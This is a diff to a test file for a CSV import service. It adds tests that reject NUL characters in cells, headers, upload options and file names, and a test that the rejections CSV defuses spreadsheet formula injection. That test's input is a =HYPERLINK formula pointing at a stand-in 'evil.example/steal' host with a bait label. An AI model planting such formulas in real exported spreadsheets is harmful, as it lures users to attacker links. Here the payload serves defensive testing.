@@ -5,6 +5,7 @@ import iconv from 'iconv-lite';
 import { sql } from 'kysely';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { injector, startTestKith, staffSession, systemCtx, type TestKith } from '../../../../test/harness.js';
+import { rejectionsCsv } from './import.service.js';
 
 const fixtures = path.join(import.meta.dirname, '../formats/fixtures');
 const membersCsv = fs.readFileSync(path.join(fixtures, 'members-utf8-bom.csv'));
@@ -134,6 +135,61 @@ describe('chat import', () => {
     expect(r2.createdRows).toBe(1);
     expect(r2.duplicateRows).toBe(r.createdRows);
     expect(await count()).toBe(before + 1);
+  });
+});
+
+describe('rejections CSV', () => {
+  it('defuses a reason that would run as a formula in a spreadsheet (it quotes the file\'s own cells)', () => {
+    expect(rejectionsCsv([{ line: 3, reason: '=HYPERLINK("http://evil.example/steal","点我领券"): is not a phone number' }, { line: 4, reason: '手机号: "1380013" is not a valid phone number' }])).toBe(
+      '\ufeffline,reason\r\n3,"\'=HYPERLINK(""http://evil.example/steal"",""点我领券""): is not a phone number"\r\n4,"手机号: ""1380013"" is not a valid phone number"\r\n',
+    );
+  });
+});
+
+describe('text the database cannot store, in a file', () => {
+  it('makes a line with a NUL in a cell a rejected line with its number, in members, orders and chat files, and imports the rest', async () => {
+    const members = Buffer.from('姓名,手机号,城市\n林一,13900000001,上海\n林\u0000二,13900000002,上海\n林三,13900000003,上\u0000海\n林四,13900000004,北京\n');
+    const m = await kith.imports.run(systemCtx, 'members', 'nul-members.csv', members, {});
+    expect(m).toMatchObject({ status: 'completed', createdRows: 2, rejectedRows: 2, error: null });
+    expect(m.rejections).toEqual([
+      { line: 3, reason: '姓名: contains a NUL character (U+0000), which cannot be stored' },
+      { line: 4, reason: '城市: contains a NUL character (U+0000), which cannot be stored' },
+    ]);
+
+    const orders = Buffer.from('订单号,手机号,实付金额,下单时间,商品\nNUL1,13900000001,10.00,2026-01-01 10:00:00,咖\u0000啡\nNUL2,13900000001,12.00,2026-01-01 11:00:00,咖啡\n');
+    const o = await kith.imports.run(systemCtx, 'orders', 'nul-orders.csv', orders, { source: 'nul-shop' });
+    expect(o).toMatchObject({ status: 'completed', createdRows: 1, rejectedRows: 1, rejections: [{ line: 2, reason: expect.stringMatching(/^商品: contains a NUL/) }] });
+
+    const chat = Buffer.from('time,sender_channel,sender_id,sender_name,text,community\n2024-03-01 09:05:12,qq,123456789,小林,早\u0000上好,NUL群\n2024-03-01 09:06:12,qq,123456789,小林,早上好,NUL群\n');
+    const c = await kith.imports.run(systemCtx, 'chat', 'nul-chat.csv', chat, {});
+    expect(c).toMatchObject({ status: 'completed', createdRows: 1, rejectedRows: 1, rejections: [{ line: 2, reason: expect.stringMatching(/^text: contains a NUL/) }] });
+  });
+
+  it('refuses a file whose header holds a NUL, and upload options or a file name holding one, with 400 and nothing written', async () => {
+    const inject = injector(kith);
+    const op = await staffSession(kith, 'operator');
+    const imports = async () => (await q(sql<{ n: number }>`select count(*)::int as n from imports`))[0]!.n;
+    const before = await imports();
+    const upload = (fileName: string, content: Buffer, options?: string) => {
+      const boundary = '----kithnul';
+      const parts: Buffer[] = [];
+      if (options) parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="options"\r\n\r\n${options}\r\n`));
+      parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: text/csv\r\n\r\n`), content, Buffer.from(`\r\n--${boundary}--\r\n`));
+      return inject({ method: 'POST', url: '/api/v1/imports/members', headers: { ...op.headers, 'content-type': `multipart/form-data; boundary=${boundary}` }, payload: Buffer.concat(parts) });
+    };
+    const header = await upload('h.csv', Buffer.from('姓\u0000名,手机号\n林五,13900000005\n'));
+    expect(header.statusCode).toBe(400);
+    expect(header.json().detail).toMatch(/^Column 1 of the header row \(line 1\) contains a NUL/);
+    const options = await upload('o.csv', Buffer.from('姓名,手机号\n林五,13900000005\n'), JSON.stringify({ mapping: { 姓名: 'name' }, timeZone: 'Asia/Shanghai', source: 'a\u0000' }));
+    expect(options.statusCode).toBe(400);
+    expect(options.json().errors).toEqual([{ path: 'options/source', message: expect.stringContaining('NUL') }]);
+    const name = await upload('a\u0000.csv', Buffer.from('姓名,手机号\n林五,13900000005\n'));
+    expect(name.statusCode).toBe(400);
+    expect(name.json().errors).toEqual([{ path: 'file/filename', message: expect.stringContaining('NUL') }]);
+    const long = await upload('o.csv', Buffer.from('姓名,手机号\n林五,13900000005\n'), JSON.stringify({ source: 'x'.repeat(100_000) }));
+    expect(long.statusCode).toBe(400);
+    expect(long.json().errors).toEqual([{ path: 'options/source', message: 'must be at most 200 characters' }]);
+    expect(await imports()).toBe(before);
   });
 });
 
